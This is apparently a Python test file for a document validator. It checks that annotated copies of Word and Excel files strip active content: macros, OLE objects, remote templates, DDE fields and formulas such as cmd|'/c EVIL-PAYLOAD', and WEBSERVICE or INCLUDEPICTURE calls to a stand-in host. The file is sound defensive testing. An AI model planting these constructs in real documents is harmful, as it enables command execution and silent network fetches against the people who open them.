"""A commented copy passes on nothing that can act or reaches out, unless that is asked for, and says so."""

from __future__ import annotations

import io
import zipfile

import docx
import pytest
import xlsxwriter
from lxml import etree

from validator.model.diagnostic import FileResult
from validator.readers.formats import DOCX, XLSX
from validator.render.annotate import annotated_copy

R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MS = "http://schemas.microsoft.com/office/2006/relationships"
SECRET = b"EVIL-PAYLOAD"


def rebuilt(data, **changes):
    """A package with parts replaced or added; a function gets the part as it is."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w") as new:
        parts = {name: old.read(name) for name in old.namelist()}
        for key, change in changes.items():
            name = key.replace("__", "/")
            parts[name] = change(parts.get(name, b"")) if callable(change) else change
        for name, content in parts.items():
            new.writestr(name, content)
    return out.getvalue()


def relation(kind, target, base=R, mode=""):
    mode = f' TargetMode="{mode}"' if mode else ""
    new = f'<Relationship Id="rIdX" Type="{base}/{kind}" Target="{target}"{mode}/>'.encode()
    empty = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
    return lambda old: (old or empty).replace(b"</Relationships>", new + b"</Relationships>")


def body(xml):
    return lambda old: old.replace(b"<w:sectPr", xml.encode() + b"<w:sectPr", 1)


def word(**changes):
    made = docx.Document()
    made.add_paragraph("Đã tiếp nhận 794 hồ sơ.")
    out = io.BytesIO()
    made.save(out)
    return rebuilt(out.getvalue(), **changes)


def book(**changes):
    out = io.BytesIO()
    made = xlsxwriter.Workbook(out)
    made.add_worksheet("A").write(0, 0, 794)
    made.close()
    return rebuilt(out.getvalue(), **changes)


def formula(text):
    cell = f'<c r="B1"><f>{text}</f><v>7</v></c></row>'.encode()
    return {"xl__worksheets__sheet1.xml": lambda old: old.replace(b"</row>", cell, 1)}


def field(text):
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in (text[:2], text[2:]))
    begin, middle, end = (
        f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end")
    )
    shown = "<w:r><w:t>shown</w:t></w:r>"
    return {"word__document.xml": body(f"<w:p>{begin}{runs}{middle}{shown}{end}</w:p>")}


DOC_RELS = "word___rels__document.xml.rels"
BOOK_RELS = "xl___rels__workbook.xml.rels"
OLE = f'<o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:r="{R}" r:id="rIdX"/>'
OBJECT = f"<w:p><w:r><w:object>{OLE}</w:object></w:r></w:p>"
REMOTE = "http://x/EVIL-PAYLOAD.dotm"
REFERENCE = f'<externalReference xmlns:r="{R}" r:id="rIdX"/>'
SHEETS = f"</sheets><externalReferences>{REFERENCE}</externalReferences>".encode()
FETCH = '<w:p><w:fldSimple w:instr=" INCLUDEPICTURE http://EVIL-PAYLOAD "/></w:p>'
MACROS = relation("vbaProject", "vbaProject.bin", MS)
CASES = {
    "macros": (
        DOCX,
        lambda: word(**{DOC_RELS: MACROS, "word__vbaProject.bin": SECRET}),
        "macros",
    ),
    "object": (
        DOCX,
        lambda: word(
            **{
                DOC_RELS: relation("oleObject", "embeddings/o.bin"),
                "word__embeddings__o.bin": SECRET,
                "word__document.xml": body(OBJECT),
            }
        ),
        "objects",
    ),
    "html": (
        DOCX,
        lambda: word(
            **{
                DOC_RELS: relation("aFChunk", "x.html"),
                "word__x.html": SECRET,
                "word__document.xml": body(f'<w:altChunk xmlns:r="{R}" r:id="rIdX"/>'),
            }
        ),
        "objects",
    ),
    "template": (
        DOCX,
        lambda: word(
            **{
                "word___rels__settings.xml.rels": relation("attachedTemplate", REMOTE, mode="External"),
                "word__settings.xml": lambda old: old.replace(
                    b"<w:zoom", f'<w:attachedTemplate xmlns:r="{R}" r:id="rIdX"/><w:zoom'.encode(), 1
                ),
            }
        ),
        "template",
    ),
    "picture from elsewhere": (
        DOCX,
        lambda: word(**{DOC_RELS: relation("image", "http://x/EVIL-PAYLOAD.png", mode="External")}),
        "links",
    ),
    "link to a share": (
        DOCX,
        lambda: word(**{DOC_RELS: relation("hyperlink", "file:////x/EVIL-PAYLOAD", mode="External")}),
        "links",
    ),
    "dde": (DOCX, lambda: word(**field("DDEAUTO c:\\EVIL-PAYLOAD")), "fields"),
    "simple field": (
        DOCX,
        lambda: word(
            **{"word__document.xml": body(FETCH)}
        ),
        "fields",
    ),
    "workbook macros": (
        XLSX,
        lambda: book(**{BOOK_RELS: MACROS, "xl__vbaProject.bin": SECRET}),
        "macros",
    ),
    "external workbook": (
        XLSX,
        lambda: book(
            **{
                BOOK_RELS: relation("externalLink", "externalLinks/externalLink1.xml"),
                "xl__externalLinks__externalLink1.xml": b"<externalLink>EVIL-PAYLOAD</externalLink>",
                "xl__workbook.xml": lambda old: old.replace(
                    b"<definedNames", b"<x/><definedNames"
                ).replace(
                    b"</sheets>",
                    SHEETS,
                ),
            },
            **formula("[1]A!$A$1+1"),
        ),
        "links",
    ),
    "dde formula": (XLSX, lambda: book(**formula("cmd|'/c EVIL-PAYLOAD'!A0")), "formulas"),
    "web formula": (XLSX, lambda: book(**formula('_xlfn.WEBSERVICE("http://EVIL-PAYLOAD")')), "formulas"),
}  # fmt: skip


def copied(media_type, data, **options):
    found = annotated_copy(data, media_type, FileResult(path="a"), "vi", **options)
    package = zipfile.ZipFile(io.BytesIO(found.data))
    return found, {name: package.read(name) for name in package.namelist()}


@pytest.mark.parametrize("name", CASES)
def test_it_is_left_out_and_told(name):
    media_type, make, kind = CASES[name]
    found, parts = copied(media_type, make())
    assert kind in found.left_out
    assert not [each for each, content in parts.items() if SECRET in content]
    for each, content in parts.items():
        if each.endswith((".xml", ".rels")):
            root = etree.fromstring(content)
            assert not [
                one
                for one in root.iter("{*}*")
                if f"{{{R}}}id" in one.attrib and one.get(f"{{{R}}}id") == "rIdX"
            ]
            assert each.replace("/", "") != "wordvbaProject.bin"
    comments = next(
        content for each, content in parts.items() if "comments" in each and each.endswith(".xml")
    )
    assert "Bản sao này đã bỏ" in comments.decode()


@pytest.mark.parametrize("name", CASES)
def test_it_is_kept_if_that_is_asked_for(name):
    media_type, make, _ = CASES[name]
    found, parts = copied(media_type, make(), keep_active=True)
    assert found.left_out == ()
    assert [each for each, content in parts.items() if SECRET in content] or name == "external workbook"


@pytest.mark.parametrize(
    ("media_type", "data"),
    [
        (DOCX, word(**{DOC_RELS: relation("hyperlink", "https://dichvucong.gov.vn", mode="External")})),
        (DOCX, word(**field("PAGE \\* MERGEFORMAT"))),
        (XLSX, book(**formula("SUM(A1:A2)"))),
    ],
)
def test_what_only_shows_something_stays(media_type, data):
    found, parts = copied(media_type, data)
    assert found.left_out == ()
    before = zipfile.ZipFile(io.BytesIO(data))
    assert set(before.namelist()) <= set(parts)


def test_the_value_that_a_formula_gave_last_stays():
    _, parts = copied(XLSX, CASES["dde formula"][1]())
    cell = next(
        each
        for each in etree.fromstring(parts["xl/worksheets/sheet1.xml"]).iter("{*}c")
        if each.get("r") == "B1"
    )
    assert [child.tag.rpartition("}")[2] for child in cell] == ["v"]
    assert cell[0].text == "7"


def test_a_document_with_macros_becomes_one_without():
    macro = b"application/vnd.ms-word.document.macroEnabled.main+xml"
    plain = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    data = rebuilt(CASES["macros"][1](), **{"[Content_Types].xml": lambda old: old.replace(plain, macro)})
    _, parts = copied(DOCX, data)
    assert plain in parts["[Content_Types].xml"]
    assert macro not in parts["[Content_Types].xml"]
